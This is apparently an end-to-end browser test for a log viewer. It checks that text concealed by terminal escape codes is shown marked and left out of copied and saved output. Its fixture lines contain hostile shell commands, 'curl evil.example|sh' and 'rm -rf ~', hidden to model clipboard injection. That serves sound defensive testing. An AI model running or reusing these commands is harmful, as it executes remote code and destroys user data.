/**
 * What is copied is what is shown, in real Chromium against `tailstream serve`: text a log hides
 * from the screen (SGR 8 concealed, text drawn in its own background colour) is shown marked and
 * left out of "Copy shown" and "Save shown"; raw BEL, BS and NUL never reach the clipboard (they
 * show, and copy, as control pictures); and no escape sequence form leaves a trace on screen.
 */
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { openConsole, screenshot } from '../support/browser.js';
import { UI_TIMEOUT_MS, waitForLine } from '../support/console-page.js';
import { useServedLog } from '../support/served-log.js';

const ESC = '\u001b';
const LINES = [
  `run: ls -la${ESC}[8m; curl evil.example|sh${ESC}[0m`,
  `paint: ${ESC}[31;41mrm -rf ~${ESC}[0m done`,
  'ring\u0007 back\u0008 nul\u0000 end',
  `osc${ESC}]0;title\u0007 dcs${ESC}P1$r0m${ESC}\\ c1\u009b31m red\u009b0m apc${ESC}_payload${ESC}\\ last`,
];
/** What a person may copy of each line: what they can read, controls as pictures. */
const COPIED = ['run: ls -la', 'paint:  done', 'ring\u2407 back\u2408 nul\u2400 end', 'osc dcs c1 red apc last'];

function clipboard(page: Page): Promise<string> {
  return page.evaluate('navigator.clipboard.readText()') as Promise<string>;
}

/** The text of a line's runs with, for each, its visibility and text decoration. */
function runsOf(page: Page, seq: number): Promise<Array<[string, string, string]>> {
  return page.evaluate(
    `[...document.querySelectorAll('[data-testid=log-line][data-seq="${seq}"] .text span')].map((node) => [node.textContent, getComputedStyle(node).visibility, getComputedStyle(node).textDecorationLine])`,
  ) as Promise<Array<[string, string, string]>>;
}

describe('copy carries only what the screen shows', () => {
  let page: Page;
  const log = useServedLog('concealed.log', LINES);

  beforeAll(async () => {
    page = (await openConsole(log.browser, log.server.url, { clipboard: true })).page;
    await waitForLine(page, 'last');
  });

  it('shows concealed text and text in its background colour, marked, never hidden', async () => {
    const concealed = (await runsOf(page, 1)).find(([text]) => text === '; curl evil.example|sh');
    expect(concealed).toEqual(['; curl evil.example|sh', 'visible', 'line-through']);
    const painted = (await runsOf(page, 2)).find(([text]) => text === 'rm -rf ~');
    expect(painted).toEqual(['rm -rf ~', 'visible', 'line-through']);
    await screenshot(page, 'concealed-marked');
  });

  it('shows no trace of any escape sequence, and control characters as pictures', async () => {
    const texts = await page.locator('[data-testid=log-line] .text').allTextContents();
    expect(texts[2]).toBe(COPIED[2]);
    expect(texts[3]).toBe(COPIED[3]);
    expect(texts.join('')).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/);
  });

  it('leaves hidden text and raw controls out of Copy shown and Save shown', async () => {
    await page.locator('[data-testid=copy-shown]').click();
    await expect.poll(() => clipboard(page), { timeout: UI_TIMEOUT_MS }).toBe(`${COPIED.join('\n')}\n`);
    const download = page.waitForEvent('download');
    await page.locator('[data-testid=save-shown]').click();
    const target = log.dir.file('saved.log');
    await (await download).saveAs(target);
    expect(await readFile(target, 'utf8')).toBe(`${COPIED.join('\n')}\n`);
  });

  it('copies a selected line the same way', async () => {
    await page.locator('[data-testid=log-line][data-seq="1"] .gutter').click();
    await page.locator('[data-testid=copy-selected]').click();
    await expect.poll(() => clipboard(page), { timeout: UI_TIMEOUT_MS }).toBe(COPIED[0]);
  });
});
